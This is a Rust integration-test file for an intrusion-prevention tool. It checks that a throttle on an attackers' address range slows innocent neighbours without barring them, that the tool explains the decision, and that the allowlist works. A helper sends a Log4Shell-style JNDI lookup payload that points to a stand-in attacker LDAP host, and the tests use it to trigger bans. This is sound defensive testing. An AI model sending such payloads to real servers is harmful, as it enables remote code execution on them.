//! Several attackers of one range slow their neighbours down and never bar them.

use std::thread;
use std::time::Duration;

use crate::house::{Field, Mode, PORT, Site, curl};
use crate::network::{EDGE, inside};
use crate::support::{json_lines, ringwall, wait_for};
use crate::{BROWSER, ready};

/// One request that can only mean to use a known hole.
fn attack(namespace: &str) {
    let _refused_or_not = curl(
        namespace,
        &format!("http://{EDGE}:{PORT}/?x=$%7Bjndi:ldap://203.0.113.250/a%7D"),
    );
}

/// The answers to so many requests, made at once by one curl.
fn answers(namespace: &str, requests: usize) -> Vec<String> {
    let url = format!("http://{EDGE}:{PORT}/item/[1-{requests}]");
    let output = inside(namespace, "curl")
        .args(["-s", "-o", "/dev/null", "-m", "20", "-A", BROWSER])
        .args(["-w", "%{http_code} %header{retry-after}\n", &url])
        .output()
        .expect("curl runs");
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    text.lines().map(str::to_owned).collect()
}

fn range_decision(field: &Field, range: &str) -> Option<serde_json::Value> {
    json_lines(&ringwall(&field.socket, &["--json", "decision", "list"]))
        .into_iter()
        .find(|one| one["value"] == range)
}

#[test]
fn the_innocent_neighbour_of_four_attackers_is_slowed_down_and_not_barred() {
    if !ready(&[]) {
        return;
    }
    let mut field = Field::make(Site::Pages, Mode::Enforce);
    let attackers = [
        "203.0.113.11",
        "203.0.113.22",
        "203.0.113.33",
        "203.0.113.44",
    ];
    let innocent = field.network.stranger_at("203.0.113.200");
    let elsewhere = field.network.stranger_at("192.0.2.200");
    let beside_us = field.network.stranger(77);
    for (at, address) in attackers.into_iter().enumerate() {
        let before = range_decision(&field, "203.0.113.0/24");
        assert_eq!(before, None, "DENY: {at} attackers are no reason");
        let namespace = field.network.stranger_at(address);
        attack(&namespace);
        wait_for("the ban", Duration::from_secs(5), || {
            field.decision_about(address)
        });
    }
    let throttle = wait_for("the throttle", Duration::from_secs(5), || {
        range_decision(&field, "203.0.113.0/24")
    });
    assert_eq!(throttle["kind"], "throttle", "{throttle}");
    // The fifth address of the range: slowed down, told when to come again, never refused.
    let told = answers(&innocent, 20);
    println!("the neighbour hears {told:?}");
    let count = |code: &str| told.iter().filter(|line| line.starts_with(code)).count();
    assert_eq!(told.len(), 20);
    assert!(count("200") >= 5, "{told:?}");
    assert!(count("429") >= 5, "{told:?}");
    assert_eq!(
        count("200") + count("429"),
        20,
        "DENY anything else: {told:?}"
    );
    assert!(
        told.iter().all(|line| line == "200 " || line == "429 1"),
        "{told:?}"
    );
    thread::sleep(Duration::from_secs(2));
    let url = format!("http://{EDGE}:{PORT}/");
    assert_eq!(curl(&innocent, &url), "200");
    // Nobody else notices.
    for other in [&elsewhere, &beside_us] {
        let told = answers(other, 20);
        assert!(told.iter().all(|line| line == "200 "), "{told:?}");
    }
    // Who asks hears the truth, and a way out that works.
    let why = ringwall(&field.socket, &["why", "203.0.113.200"]);
    let why = String::from_utf8_lossy(&why.stdout).into_owned();
    let why = why.split_whitespace().collect::<Vec<_>>().join(" ");
    println!("{why}");
    for part in [
        "neighbours",
        "203.0.113.44",
        "Nothing was noticed about itself",
    ] {
        assert!(why.contains(part), "{part}: {why}");
    }
    ringwall(
        &field.socket,
        &[
            "allowlist",
            "add",
            "203.0.113.200",
            "--reason",
            "a neighbour",
        ],
    );
    let told = answers(&innocent, 20);
    assert!(told.iter().all(|line| line == "200 "), "{told:?}");
    // A ban that is taken back leaves three offenders: the range is let go with it.
    ringwall(&field.socket, &["decision", "delete", "203.0.113.44"]);
    assert_eq!(range_decision(&field, "203.0.113.0/24"), None);
}

#[test]
fn attackers_beside_the_protected_host_do_not_slow_its_own_range_down() {
    if !ready(&[]) {
        return;
    }
    let mut field = Field::make(Site::Pages, Mode::Enforce);
    for last in [61, 62, 63, 64, 65] {
        let namespace = field.network.stranger(last);
        attack(&namespace);
        let address = format!("198.51.100.{last}");
        wait_for("the ban", Duration::from_secs(5), || {
            field.decision_about(&address)
        });
    }
    assert_eq!(range_decision(&field, "198.51.100.0/24"), None);
    let visitor = field.network.stranger(99);
    let told = answers(&visitor, 20);
    assert!(told.iter().all(|line| line == "200 "), "{told:?}");
}
